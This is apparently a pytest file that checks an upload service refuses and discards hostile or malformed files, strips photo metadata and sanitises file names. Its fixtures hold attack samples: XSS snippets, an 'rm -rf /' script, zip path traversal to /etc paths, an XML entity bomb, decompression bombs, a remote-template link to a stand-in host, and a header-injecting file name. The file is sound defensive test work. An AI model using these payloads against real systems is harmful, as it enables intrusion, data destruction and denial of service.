"""Nothing is stored of a file that isn't what it seems, and whoever sent it reads how to go on."""

from __future__ import annotations

import io
import time

import pytest
from PIL import Image

from core.base import clock, files
from core.base.access import SYSTEM
from core.base.db import db, unit_of_work
from core.base.errors import DomainError
from core.base.files import reading
from core.base.registry import settings
from core.base.wording import words
from tests.support import uploads

EVERYTHING = ("pdf", "png", "jpeg", "docx", "xlsx", "txt")
RELATIONS = (
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" '
    'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
    'Target="http://192.0.2.1/t.dotm" TargetMode="External"/></Relationships>'
)
LAUGHS = (
    '<!DOCTYPE l [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;">]><w:document xmlns:w="w">&b;</w:document>'
)


def keep(data: bytes, name: str = "x", accept: tuple[str, ...] = EVERYTHING) -> files.FileInfo:
    with unit_of_work():
        return files.store(io.BytesIO(data), name, actor=SYSTEM, now=clock.now(), accept=accept)


def bytes_of(file: files.FileInfo) -> bytes:
    return files.path_of(file).read_bytes()


def stored_files() -> list[str]:
    return [path.name for path in settings().files_dir.rglob("*") if path.is_file()]


def animation() -> bytes:
    frames = [Image.new("RGB", (9, 9), colour) for colour in ("red", "blue")]
    out = io.BytesIO()
    frames[0].save(out, "GIF", save_all=True, append_images=frames[1:])
    return out.getvalue()


def scan_bomb() -> bytes:
    """A JPEG that asks for thousands of passes over its pixels."""
    whole = uploads.photo(400, 400)
    return whole[:-2] + whole[whole.index(b"\xff\xda") : -2] * 200 + b"\xff\xd9"


HOSTILE = {
    "picture_too_many_pixels": [uploads.png_that_claims(50_000, 50_000), uploads.png_that_claims(30_000, 100)],
    "picture_moves": [animation()],
    "file_damaged": [
        uploads.photo(64, 64)[:400], b"\x89PNG\r\n\x1a\n" + b"0" * 400, uploads.pdf()[:60] + b"%%EOF", b"%PDF-1.7 nothing",
        b"PK\x03\x04" + b"0" * 200, scan_bomb(), uploads.docx("x", more={"word/footer1.xml": "<broken"}),
    ],
    "file_two_in_one": [
        uploads.pdf() + uploads.docx("x"), uploads.pdf() + b"<html><script>alert(1)</script></html>",
        uploads.pdf()[:-6] + uploads.package({"a.txt": "x"}) + b"%%EOF\n",
    ],
    "file_kind": [
        b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>", b"<!doctype html><title>x</title>",
        "您好\n<script>alert(1)</script>".encode(), "<html>".encode("utf-16"), b"MZ\x90\x00\x03", b"\x7fELF\x02\x01",
        uploads.package({"a.txt": "x"}), uploads.package({"mimetype": "application/vnd.oasis.opendocument.text"}),
        b"#!/bin/sh\nrm -rf /", b"GIF8;/*\x00", b"\x00\x00\x00\x1cftypavif" + b"\x00" * 40,
    ],
    "file_empty": [b"", b"  \n "],
    "file_old_office": [b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 600, b"{\\rtf1 x}"],
    "document_locked": [b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + "EncryptedPackage".encode("utf-16-le")],
    "file_heic": [b"\x00\x00\x00\x24ftypheic\x00\x00\x00\x00mif1heic" + b"\x00" * 400],
    "document_macros": [
        uploads.docx("x", more={"word/vbaProject.bin": b"\x00"}),
        uploads.docx("x", types='<Override ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>'),
    ],
    "document_bomb": [
        uploads.docx("x", more={"word/media/zeros.bin": b"\x00" * 101 * 1024 * 1024}),
        uploads.docx("x", more={f"word/p{n}.bin": b"" for n in range(2100)}),
        uploads.docx("x", more={"word/media/a.bin": b"\x00" * 30 * 1024 * 1024}),
    ],
    "document_unsafe": [
        uploads.docx("x", more={"../../etc/cron.d/x": "x"}), uploads.docx("x", more={"/etc/passwd": "x"}),
        uploads.package({"[Content_Types].xml": "<Types/>", "word/document.xml": LAUGHS}),
    ],
    "document_reaches_out": [uploads.docx("x", more={"word/_rels/settings.xml.rels": RELATIONS})],
    "document_too_long": [uploads.pdf(pages=501), uploads.docx("".join(chr(0x4E00 + n * n % 19997) for n in range(2_000_100)))],
}  # fmt: skip


def test_nothing_of_a_hostile_file_is_kept(app) -> None:
    with app.app_context(), app.test_request_context("/zh/"):
        for code, number, data in [(c, n, d) for c, many in HOSTILE.items() for n, d in enumerate(many)]:
            with pytest.raises(DomainError) as refused:
                keep(data, "材料.pdf")
            assert refused.value.code == code, (code, number, refused.value)
            sentence = words(refused.value)
            assert sentence != words(DomainError("nowhere")), code
            assert stored_files() == [], (code, number)
        assert db.session.query(files.FileRow).count() == 0


def test_a_pdf_that_costs_time_or_memory_costs_only_its_reader(app, monkeypatch) -> None:
    """150 KB that unpack to 40 MB of drawing on each of 400 pages: the reader has its limits."""
    bomb = uploads.pdf(pages=400, drawing=b"q 1 0 0 1 0 0 cm 0 0 m 9 9 l S Q\n" * 1_200_000)
    assert len(bomb) < 500_000
    monkeypatch.setattr(reading, "PATIENCE", 3.0)
    started = time.monotonic()
    with app.app_context():
        with pytest.raises(DomainError, match="document_too_hard"):
            keep(bomb, "b.pdf")
        assert stored_files() == []
    assert time.monotonic() - started < 20


MARKED = [
    (uploads.docx("关于开放日", "秘密★1年"), "a.docx"), (uploads.docx("正文", header="机　密★"), "a.docx"),
    (uploads.xlsx([["名称", "数"], ["绝密★", 1]]), "a.xlsx"), ("密级：机密\n正文".encode("gb18030"), "a.txt"),
    (uploads.pdf("x"), "机密.pdf"), (uploads.photo(64, 64), "秘密★一年.jpg"),
]  # fmt: skip


def test_a_mark_of_secrecy_is_refused_before_anything_is_stored(app) -> None:
    with app.app_context():
        for data, name in MARKED:
            with pytest.raises(DomainError, match="secret_mark"):
                keep(data, name)
            assert stored_files() == [], name


def test_a_photo_loses_everything_but_its_pixels(app) -> None:
    with app.app_context():
        kept = keep(
            uploads.phone_photo(640, 480, orientation=6) + b"<script>tail</script>PK\x05\x06", "现场.JPG"
        )
        data = bytes_of(kept)
        assert (kept.kind, kept.name, kept.width, kept.height) == ("jpeg", "现场.jpg", 480, 640)
        for trace in (
            b"OWNER-NAME",
            b"PHONE-MAKER",
            b"SECRET-COMMENT",
            b"XMP-TRACE",
            b"Exif",
            b"<script>",
            b"PK",
        ):
            assert trace not in data, trace
        upright = Image.open(io.BytesIO(data))
        assert not upright.getexif()
        # the mark at the camera's upper left stands at the upper right once the picture is upright
        assert upright.convert("RGB").getpixel((470, 10))[0] > 150  # type: ignore[index]
        for format in ("avif", "webp", "jpeg"):
            found = files.copy_of(kept, 320, format)
            assert found is not None
            smaller = found[0].read_bytes()
            assert Image.open(io.BytesIO(smaller)).size == (320, 427)
            assert b"OWNER" not in smaller
        assert files.copy_of(kept, 640, "jpeg") is None


def test_other_pictures_are_written_anew(app) -> None:
    with app.app_context():
        for format, kind in [("PNG", "png"), ("WEBP", "jpeg"), ("GIF", "png")]:
            kept = keep(uploads.photo(200, 100, format), "海报.svg.html")
            assert (kept.kind, kept.width, kept.height) == (kind, 200, 100)
            assert kept.name.endswith((".png", ".jpg"))


def test_documents_are_read_for_the_search(app) -> None:
    with app.app_context():
        word = keep(uploads.docx("第一段", "第二段", header="云川市水务局"), "方案.docx")
        assert files.text_of(word.id) == "第一段\n第二段\n云川市水务局\n"
        sheet = keep(uploads.xlsx([["单位", "人数"], ["水务局", 48]]), "统计")
        assert (sheet.name, sheet.kind) == ("统计.xlsx", "xlsx")
        assert "水务局\t48" in files.text_of(sheet.id)
        assert "Open day" in files.text_of(keep(uploads.pdf("Open day"), "a.pdf").id)
        plain = keep("第一行\r\n第二行".encode("gb18030"), "说明.text")
        assert bytes_of(plain).decode() == "第一行\n第二行"
        assert plain.name == "说明.txt"


def test_names_are_made_harmless(app) -> None:
    with app.app_context():
        for given, kept in [
            ("..\\..\\etc/扫描件.exe", "扫描件.png"), ("a\u202egnp.exe", "agnp.png"), ("x\r\nSet-Cookie: a.png", "xSet-Cookie a.png"),
            ("...", "file.png"), ("第1.2稿", "第1.2稿.png"), ("长" * 300 + ".png", "长" * 180 + ".png"),
        ]:  # fmt: skip
            assert keep(uploads.photo(8, 8, "PNG"), given).name == kept


@pytest.mark.parametrize(
    ("head", "kind"),
    [
        (b"ID3\x04\x00\x00", "mp3"), (b"\xff\xfb\x90\x64", "mp3"), (b"\x00\x00\x00\x20ftypisom\x00\x00", "mp4"),
        (b"\x00\x00\x00\x1cftypM4A \x00\x00", "m4a"), (b"\x1a\x45\xdf\xa3\x9fB\x86\x81\x01B\x82\x84webm", "webm"),
        (b"\xff\xfea\x00b\x00", ""), (b"\xff\xd8\xff\xe0", ""), (b"\x1a\x45\xdf\xa3matroska", ""), (b"\xff", ""),
    ],
)  # fmt: skip
def test_a_recording_is_told_by_its_first_bytes(head: bytes, kind: str) -> None:
    from core.base.files.kinds import recording_kind

    assert recording_kind(head) == kind
